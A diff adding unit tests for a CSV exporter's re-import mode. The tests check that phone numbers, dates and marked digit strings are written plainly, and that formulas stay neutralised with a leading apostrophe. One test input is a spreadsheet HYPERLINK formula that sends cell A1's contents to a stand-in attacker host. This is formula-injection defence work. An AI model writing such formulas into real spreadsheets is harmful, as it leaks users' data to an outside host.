@@ -313,3 +313,33 @@ describe('="…" wrapping (Square\'s ="01002", bank exports) in a CSV output', (
     expect(field({ kind: 'text', value: 'x', formula: '=HYPERLINK("http://evil.example/","x")' })).toBe('x');
   });
 });
+
+describe('a CSV written for re-import (output.csvTextMark "none")', () => {
+  const none = (cell: Cell) => unparseCells([[cell]], ',', 'none').slice(1, -2);
+
+  it.each<[string, Cell, string]>([
+    ['an international phone is written as cleaned', text('+52 55 1234 5678'), '+52 55 1234 5678'],
+    ["Google's birthday without a year", text('--12-08'), '--12-08'],
+    ['a note starting with a dash', text('- called back, wants a quote'), '"- called back, wants a quote"'],
+    ['a formula keeps its mark: no importer or spreadsheet must run it', text('=HYPERLINK("http://evil.example/?"&A1)'), `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
+    ['an @ formula keeps its mark', text('@SUM(A1:A9)'), `"'@SUM(A1:A9)"`],
+    ['a line break before a formula keeps its mark', text('\n=1+1'), `"'\n=1+1"`],
+    ['a text formula of its own text is written as its text', { kind: 'text', value: '01002', formula: '="01002"' }, '01002'],
+  ])('%s', (_, cell, expected) => {
+    expect(none(cell)).toBe(expected);
+  });
+
+  it('counts only the values it still marks', () => {
+    const rows = [[text('+44 7700 900123'), text('=1+1'), text('@王芳'), text('-重要客户')]];
+    expect(guardedInCsv(rows, 'none')).toBe(2);
+    expect(guardedInCsv(rows)).toBe(4);
+  });
+
+  it('writes the digits an export marked without its mark', () => {
+    const grid = gridOf([['Customer ID', 'Zip'], ['7012345678060', '02134']]);
+    const plan = planFor(grid);
+    const marks = new Map([['2:1', 'apostrophe' as const], ['2:2', 'apostrophe' as const]]);
+    expect(csvOf(grid, plan, marks).split('\r\n')[1]).toBe("'7012345678060,'02134");
+    expect(csvOf(grid, plan, marks, 'none').split('\r\n')[1]).toBe('7012345678060,02134');
+  });
+});
